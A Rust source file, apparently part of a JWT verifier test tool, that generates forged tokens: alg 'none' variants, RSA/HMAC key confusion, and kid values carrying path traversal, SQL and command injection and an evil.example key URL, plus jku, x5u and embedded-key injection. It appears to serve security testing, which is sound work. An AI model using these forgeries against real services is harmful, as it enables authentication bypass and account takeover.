//! Signed by nobody, by somebody else, or by other means.

use jsonwebtoken::Algorithm;
use serde_json::json;

use super::Forger;
use crate::attacks::forge::{body, mac, part, signed, with};
use crate::attacks::issuer::SHARED;
use crate::attacks::{KID, OTHER_KID};

impl Forger<'_> {
    pub(super) fn algorithms(&mut self) {
        for (name, alg) in [
            ("alg none", "none"),
            ("alg None", "None"),
            ("alg nOnE", "nOnE"),
            ("alg NONE", "NONE"),
            ("alg empty", ""),
        ] {
            let header = with(&self.header, "alg", json!(alg));
            self.add(name, format!("{}.", body(&header, &self.ours)));
        }
        let good = self.good();
        let signature = good.rsplit('.').next().unwrap();
        let none = with(&self.header, "alg", json!("none"));
        self.add(
            "alg none, and a signature",
            format!("{}.{signature}", body(&none, &self.ours)),
        );
        self.ours_with_header("no alg", "alg", json!(null));
        self.ours_with_header("alg is a list", "alg", json!(["HS256"]));
        self.ours_with_header("alg in lower case", "alg", json!("hs256"));
        let secret = jsonwebtoken::EncodingKey::from_secret(self.secret);
        for (name, alg, by) in [
            ("HS384", "HS384", Algorithm::HS384),
            ("HS512", "HS512", Algorithm::HS512),
        ] {
            let header = with(&self.header, "alg", json!(alg));
            self.add(name, signed(&body(&header, &self.ours), &secret, by));
        }
        self.ours_with_header("RS256 in the header of an HMAC", "alg", json!("RS256"));
        let issuer = self.issuer;
        for (name, alg, by) in [
            ("RS512 by a key for RS256", "RS512", Algorithm::RS512),
            ("PS256 by a key for RS256", "PS256", Algorithm::PS256),
        ] {
            let header = json!({"alg": alg, "typ": "JWT", "kid": "rsa"});
            self.theirs_as(name, &header, &issuer.rsa, by);
        }
        let header = json!({"alg": "ES256", "typ": "JWT", "kid": "ec"});
        let zero = part([0; 64]);
        let text = body(&header, &self.theirs);
        self.add("ES256 of nothing but zeros", format!("{text}.{zero}"));
        self.add("ES256 without a signature", format!("{text}."));
    }

    pub(super) fn confusions(&mut self) {
        let issuer = self.issuer;
        let pem = issuer.rsa.public_pem.clone();
        let der = {
            use base64::Engine;
            let lines: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
            base64::prelude::BASE64_STANDARD.decode(lines).unwrap()
        };
        let point = issuer.ec.public_pem.as_bytes();
        let jwk = issuer.rsa.jwk.to_string();
        for (name, kid, secret) in [
            ("HS256 by the RSA key in PEM", "rsa", pem.as_bytes()),
            (
                "HS256 by the RSA key in PEM, trimmed",
                "rsa",
                pem.trim().as_bytes(),
            ),
            ("HS256 by the RSA key in DER", "rsa", &der),
            (
                "HS256 by the RSA modulus",
                "rsa",
                issuer.modulus().as_bytes(),
            ),
            ("HS256 by the RSA key as JSON", "rsa", jwk.as_bytes()),
            ("HS256 by the EC key in PEM", "ec", point),
            ("HS256 by the whole JWKS", "rsa", issuer.document.as_bytes()),
            ("HS256 by a symmetric key of the JWKS", "shared", SHARED),
        ] {
            let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
            self.add(name, mac(&body(&header, &self.theirs), secret));
            let header = with(&header, "kid", json!(null));
            self.add(name, mac(&body(&header, &self.theirs), secret));
        }
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "ec"});
        self.theirs_as(
            "RS256 under the name of the EC key",
            &header,
            &issuer.rsa,
            Algorithm::RS256,
        );
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "rsa"});
        self.theirs_as(
            "ES256 in the header of RS256",
            &header,
            &issuer.ec,
            Algorithm::ES256,
        );
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "encryption"});
        self.theirs_as(
            "by a key for encryption",
            &header,
            &issuer.encryption,
            Algorithm::RS256,
        );
        // Ours is not theirs, and theirs is not ours.
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": KID});
        self.add(
            "theirs, signed as ours",
            mac(&body(&header, &self.theirs), SHARED),
        );
    }

    pub(super) fn names_of_keys(&mut self) {
        let issuer = self.issuer;
        self.ours_with_header("unknown kid", "kid", json!("three"));
        self.ours_with_header("kid of another key of the ring", "kid", json!(OTHER_KID));
        self.ours_with_header("kid is a number", "kid", json!(1));
        self.ours_with_header("empty kid", "kid", json!(""));
        for (name, kid, secret) in [
            (
                "kid is a path, signed with nothing",
                "../../../../../../dev/null",
                &b"\0"[..],
            ),
            (
                "kid is a path to a known file",
                "/proc/sys/kernel/randomize_va_space",
                b"2\n",
            ),
            ("kid is SQL", "x' UNION SELECT 'secret' -- ", b"secret"),
            ("kid is a command", "one|echo secret", b"secret"),
            ("kid is a template", "${SECRET}", b"${SECRET}"),
            ("kid is an address", "https://evil.example/key", b"secret"),
        ] {
            let header = with(&self.header, "kid", json!(kid));
            self.add(name, mac(&body(&header, &self.ours), secret));
        }
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "rsa-2"});
        self.theirs_as(
            "RS256 by a key that is not listed",
            &header,
            &issuer.rsa,
            Algorithm::RS256,
        );
        let header = json!({"alg": "RS256", "typ": "JWT"});
        self.theirs_as(
            "RS256 without a name",
            &header,
            &issuer.rsa,
            Algorithm::RS256,
        );
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "rsa"});
        self.theirs_as(
            "RS256 by the impostor",
            &header,
            &issuer.evil,
            Algorithm::RS256,
        );
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "evil"});
        self.theirs_as(
            "RS256 by the impostor, named",
            &header,
            &issuer.evil,
            Algorithm::RS256,
        );
    }

    pub(super) fn keys_brought_along(&mut self) {
        let issuer = self.issuer;
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": "evil"});
        let certificate = json!([part("a certificate")]);
        for (name, member, value) in [
            ("jku", "jku", json!(issuer.trap)),
            ("x5u", "x5u", json!(issuer.trap)),
            ("embedded jwk", "jwk", issuer.evil.jwk.clone()),
            ("x5c", "x5c", certificate),
        ] {
            let header = with(&header, member, value);
            self.theirs_as(name, &header, &issuer.evil, Algorithm::RS256);
            let header = with(&header, "kid", json!("rsa"));
            self.theirs_as(name, &header, &issuer.evil, Algorithm::RS256);
        }
        let own = b"a secret of the attacker's own, long enough";
        let jwk = json!({"kty": "oct", "k": part(own)});
        let header = with(&self.header, "jwk", jwk);
        self.add(
            "embedded symmetric jwk",
            mac(&body(&header, &self.ours), own),
        );
        self.ours_with_header("crit", "crit", json!(["exp"]));
        self.ours_with_header("crit of nothing", "crit", json!([]));
        let header = json!({"alg": "HS256", "kid": KID, "b64": false, "crit": ["b64"]});
        let text = format!("{}.{}", part(header.to_string()), self.ours);
        self.add(
            "claims that are not encoded (RFC 7797)",
            mac(&text, self.secret),
        );
    }
}
